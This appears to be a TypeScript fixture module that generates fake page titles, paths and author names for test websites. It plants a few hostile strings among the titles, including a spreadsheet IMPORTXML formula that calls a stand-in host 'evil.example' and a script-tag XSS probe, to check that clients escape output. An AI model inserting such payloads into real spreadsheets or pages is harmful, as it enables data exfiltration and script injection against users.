import type { Niche } from './sites';

/**
 * Page titles and paths, derived from the page index so 120,000 of them cost nothing until asked
 * for. A few pages carry hostile or non-Latin text: a client must write them as plain text.
 */
const WORDS: Record<Niche, [string[], string[]]> = {
  food: [
    ['Easy', 'Best', 'Classic', 'Healthy', 'Quick', 'Creamy', 'Spicy', 'Crispy', 'Homemade', 'One-Pot', 'Vegan', 'Slow Cooker'],
    [
      'Banana Bread',
      'Chicken Curry',
      'Lasagna',
      'Pancakes',
      'Tacos',
      'Brownies',
      'Chili',
      'Pad Thai',
      'Meatballs',
      'Granola',
      'Pot Roast',
      'Apple Pie',
      'Fried Rice',
      'Tomato Soup',
      'Cinnamon Rolls',
    ],
  ],
  travel: [
    ['A Week in', 'Budget Guide to', 'Where to Eat in', 'Hidden Gems of', 'Packing for'],
    ['Lisbon', 'Kyoto', 'Iceland', 'Patagonia', 'Vietnam', 'Scotland', 'Morocco', 'Peru'],
  ],
  craft: [
    ['Beginner', 'Easy', 'Free', 'Chunky', 'Quick', 'Vintage', 'Seamless', 'Textured'],
    [
      'Scarf Pattern',
      'Granny Square',
      'Beanie',
      'Amigurumi Bear',
      'Baby Blanket',
      'Cable Sweater',
      'Tote Bag',
      'Dishcloth',
      'Socks',
      'Cardigan',
    ],
  ],
  sports: [
    [
      'Week 1',
      'Week 2',
      'Week 3',
      'Week 4',
      'Week 5',
      'Week 6',
      'Week 7',
      'Week 8',
      'Week 9',
      'Week 10',
      'Playoff',
      'Preseason',
      'Trade Deadline',
      'Draft Day',
      'Midseason',
      'Offseason',
    ],
    [
      'Power Rankings',
      'Injury Report',
      'Game Preview',
      'Live Blog',
      'Winners and Losers',
      'Fantasy Sleepers',
      'Mock Draft',
      'Film Breakdown',
      'Betting Odds',
      'Grades',
      'Takeaways',
      'Rumors',
      'Box Score Recap',
      'Podcast Notes',
      'Mailbag',
    ],
  ],
  home: [
    ['Small Space', 'Budget', 'Weekend', 'Farmhouse', 'Minimalist'],
    ['Entryway Ideas', 'Closet Makeover', 'Cleaning Schedule', 'Paint Colors', 'Shelf Styling', 'Laundry Room'],
  ],
  garden: [
    ['Growing', 'Pruning', 'Planting', 'Saving Seeds of', 'Companion Plants for'],
    ['Tomatoes', 'Roses', 'Basil', 'Peppers', 'Hydrangeas', 'Lavender', 'Garlic'],
  ],
  finance: [
    ['How to Start', 'The Simple Guide to', 'Mistakes in', 'A Year of'],
    ['Budgeting', 'an Emergency Fund', 'Paying Off Debt', 'Meal Planning on $50', 'Index Funds', 'Sinking Funds'],
  ],
  parenting: [
    ['Easy', 'Rainy Day', 'Screen-Free', 'Quick', 'Outdoor'],
    ['Toddler Activities', 'Lunchbox Ideas', 'Bedtime Routines', 'Science Experiments', 'Birthday Party Games', 'Sensory Bins'],
  ],
};

export const HOSTILE: ReadonlyArray<{ title: string; path: string }> = [
  { title: '=IMPORTXML("http://evil.example","//a")', path: '=IMPORTXML("http://evil.example","//a")' },
  { title: '+1 cheap trick', path: '+1-cheap-trick' },
  { title: '@mention', path: '/@mention/' },
  { title: '<script>alert(1)</script> tips', path: '/<script>alert(1)</script>-tips/' },
  { title: 'Crème brûlée 🍮', path: '/crème-brûlée-🍮/' },
  { title: '日本のラーメン', path: '/日本のラーメン/' },
];

/** Page indexes that carry the hostile strings: well inside the first page of results. */
export function hostileAt(index: number, pageCount: number): { title: string; path: string } | undefined {
  if (index % 6 !== 3 || index > 33 || index >= pageCount) return undefined;
  return HOSTILE[(index - 3) / 6];
}

export function pageTitle(niche: Niche, index: number, pageCount: number): string {
  const hostile = hostileAt(index, pageCount);
  if (hostile) return hostile.title;
  const { combo, round } = position(niche, index);
  const [a, b] = WORDS[niche];
  const base = `${a[combo % a.length]} ${b[Math.floor(combo / a.length)]}`;
  return round === 0 ? base : `${base} ${round + 1}`;
}

/** The slug of the title: `/easy-banana-bread/`, `/easy-banana-bread-2/`. */
export function pagePath(niche: Niche, index: number, pageCount: number): string {
  const hostile = hostileAt(index, pageCount);
  if (hostile) return hostile.path;
  const { combo, round } = position(niche, index);
  const slugs = (SLUGS[niche] ??= []);
  const slug = (slugs[combo] ??= slugify(pageTitle(niche, combo, 0)));
  return round === 0 ? `/${slug}/` : `/${slug}-${round + 1}/`;
}

const SLUGS: Partial<Record<Niche, string[]>> = {};

function position(niche: Niche, index: number): { combo: number; round: number } {
  const [a, b] = WORDS[niche];
  const combos = a.length * b.length;
  return { combo: index % combos, round: Math.floor(index / combos) };
}

function slugify(title: string): string {
  return title
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');
}

const AUTHORS = ['Jamie Rivera', 'Priya Natarajan', 'Sam O’Connor', 'Lee Min-jun', 'Ana Souza', 'Chris Walker'];

export function pageAuthor(hash: number): string | null {
  return hash % 5 === 0 ? null : AUTHORS[hash % AUTHORS.length];
}
